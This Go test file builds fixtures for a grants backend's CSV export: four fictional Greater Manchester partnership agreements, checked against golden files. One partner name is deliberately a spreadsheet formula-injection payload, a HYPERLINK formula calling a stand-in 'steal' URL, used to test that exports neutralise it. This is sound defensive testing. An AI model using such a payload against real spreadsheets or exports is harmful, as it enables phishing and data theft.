package export

import (
	"bytes"
	"flag"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/partnership-grants/backend/pkg/grants"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/ from the current output")

// exportTime is the fixed clock of the fixture's exports.
var exportTime = time.Date(2026, 5, 1, 12, 0, 0, 0, time.UTC)

var testFunder = Funder{
	Prefix:          "360G-factoryintl",
	OrgID:           "GB-CHC-1234567",
	OrgName:         "Factory International",
	ProgrammeTitles: map[string]string{"community-2026": "Community Partnerships 2026"},
	Now:             exportTime,
}

// formulaName is a partner name built to attack a spreadsheet: it starts
// with "=", and carries a comma and double quotes for the CSV quoting.
const formulaName = `=HYPERLINK("http://example.invalid/steal","Bolton Sing, Play & Grow")`

// fixture is four fictional Greater Manchester partnerships, each made by
// the domain's own constructor and moved through its real transitions:
//
//	CP-2026-001 charity (GB-CHC), £10,000.03 so remainder pence show, active,
//	            instalment 1 paid, instalment 2 due awaiting a check-in;
//	CP-2026-002 community interest company (GB-COH), completed, all paid,
//	            programme without a public title, created late on 31 March
//	            UTC (1 April in London);
//	CP-2026-003 Scottish-registered charity (GB-SC), terminated after one
//	            payment, three instalments cancelled;
//	CP-2026-004 charity whose name is a formula with a comma and quotes,
//	            active, nothing paid yet.
func fixture(t testing.TB) []grants.Agreement {
	t.Helper()
	const actor = "officer@example.org"

	larder := newAgreement(t, "agr-0001", "CP-2026-001", grants.NewAgreementInput{
		Programme: "community-2026",
		Partner:   grants.Partner{Name: "Ancoats Community Larder", RegistrationNumber: "1187654", Address: "Unit 3, 14 Redhill Street\nManchester M4 5BA"},
		Amount:    1000003,
		StartDate: "2026-02-01",
		Terms:     []string{"Run a weekly community larder at the venue.", "Co-curate one open event each season"},
		Support:   []string{"Food hygiene training for volunteers"},
	}, time.Date(2026, 1, 12, 10, 0, 0, 0, time.UTC))
	activate(t, &larder, time.Date(2026, 1, 20, 9, 0, 0, 0, time.UTC))
	pay(t, &larder, 1, "BACS-2026-0101", "2026-02-02", time.Date(2026, 2, 2, 11, 15, 0, 0, time.UTC))
	due(t, &larder, 2, true, time.Date(2026, 5, 1, 6, 0, 0, 0, time.UTC))

	makers := newAgreement(t, "agr-0002", "CP-2026-002", grants.NewAgreementInput{
		Programme: "community-2025",
		Partner:   grants.Partner{Name: "Salford Young Makers CIC", RegistrationNumber: "09876543", Address: "The Old Mill, 2 Chapel Street, Salford, M3 7AJ"},
		Amount:    1000000,
		StartDate: "2025-04-07",
		Terms:     []string{"Four maker workshops for young people aged 14 to 19"},
		Support:   []string{"Board development sessions", "Introductions to local funders"},
	}, time.Date(2025, 3, 31, 23, 30, 0, 0, time.UTC))
	activate(t, &makers, time.Date(2025, 4, 1, 9, 0, 0, 0, time.UTC))
	for n, ref := range map[int]string{1: "BACS-2025-0407", 2: "BACS-2025-0707", 3: "-FPS-2025-1007", 4: "BACS-2026-0107"} {
		in := makers.Instalment(n)
		pay(t, &makers, n, ref, in.DueDate.String(), in.DueDate.At(14, 0, time.UTC))
	}
	complete(t, &makers, time.Date(2026, 4, 10, 16, 0, 0, 0, time.UTC))

	folk := newAgreement(t, "agr-0003", "CP-2026-003", grants.NewAgreementInput{
		Programme: "community-2026",
		Partner:   grants.Partner{Name: "Wigan & Leigh Folk Collective", RegistrationNumber: "SC045678", Address: "Folk House, 9 Market Place, Wigan WN1 1PE"},
		Amount:    1000000,
		StartDate: "2026-01-01",
		Terms:     []string{"Monthly folk sessions open to all"},
		Support:   []string{"Safeguarding policy review"},
	}, time.Date(2025, 12, 1, 15, 0, 0, 0, time.UTC))
	activate(t, &folk, time.Date(2025, 12, 15, 9, 0, 0, 0, time.UTC))
	pay(t, &folk, 1, "BACS-2026-0102", "2026-01-02", time.Date(2026, 1, 2, 10, 0, 0, 0, time.UTC))
	if _, err := folk.Terminate("The collective closed its Greater Manchester project", time.Date(2026, 3, 20, 12, 0, 0, 0, time.UTC), actor); err != nil {
		t.Fatal(err)
	}

	bolton := newAgreement(t, "agr-0004", "CP-2026-004", grants.NewAgreementInput{
		Programme: "community-2026",
		Partner:   grants.Partner{Name: formulaName, RegistrationNumber: "1203456", Address: "2 Deansgate, Bolton BL1 1HL"},
		Amount:    1000000,
		StartDate: "2026-06-15",
		Terms:     []string{"Singing and play sessions for families"},
	}, time.Date(2026, 4, 2, 8, 0, 0, 0, time.UTC))
	activate(t, &bolton, time.Date(2026, 4, 9, 9, 0, 0, 0, time.UTC))

	// Out of order on purpose: both exports must sort.
	return []grants.Agreement{bolton, folk, larder, makers}
}

func newAgreement(t testing.TB, id, ref string, in grants.NewAgreementInput, created time.Time) grants.Agreement {
	t.Helper()
	in.Contacts = []grants.Contact{{Name: "Programme Lead", Email: "lead@" + id + ".example.org", Role: "lead"}}
	in.PaymentPolicy = new(grants.PolicyAfterCheckIn) // the fixtures' overrides are under the check-in rule
	a, err := grants.NewAgreement(in, created, "officer@example.org")
	if err != nil {
		t.Fatalf("fixture %s: %v", ref, err)
	}
	a.ID, a.Reference = id, ref
	return *a
}

func activate(t testing.TB, a *grants.Agreement, at time.Time) {
	t.Helper()
	if _, err := a.Activate(at, "officer@example.org"); err != nil {
		t.Fatal(err)
	}
}

func due(t testing.TB, a *grants.Agreement, n int, awaiting bool, at time.Time) {
	t.Helper()
	in := a.Instalment(n)
	if err := grants.InstalmentTransition(in.Status, grants.InstalmentDue); err != nil {
		t.Fatal(err)
	}
	in.Status, in.AwaitingCheckIn, in.UpdatedAt = grants.InstalmentDue, awaiting, at
}

func pay(t testing.TB, a *grants.Agreement, n int, ref, on string, at time.Time) {
	t.Helper()
	due(t, a, n, false, at)
	in := a.Instalment(n)
	paidOn, err := grants.ParseDate(on)
	if err != nil {
		t.Fatal(err)
	}
	if err := grants.InstalmentTransition(in.Status, grants.InstalmentPaid); err != nil {
		t.Fatal(err)
	}
	in.Status, in.PaymentReference, in.PaidOn, in.PaidBy, in.UpdatedAt = grants.InstalmentPaid, ref, paidOn, "finance@example.org", at
}

func complete(t testing.TB, a *grants.Agreement, at time.Time) {
	t.Helper()
	if err := grants.AgreementTransition(a.Status, grants.AgreementCompleted); err != nil {
		t.Fatal(err)
	}
	a.Status, a.UpdatedAt, a.UpdatedBy = grants.AgreementCompleted, at, "officer@example.org"
}

// golden compares got with testdata/name, or rewrites the file under -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./pkg/export -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("output differs from %s (run with -update if the change is intended)\n--- got ---\n%s\n--- want ---\n%s", path, got, want)
	}
}
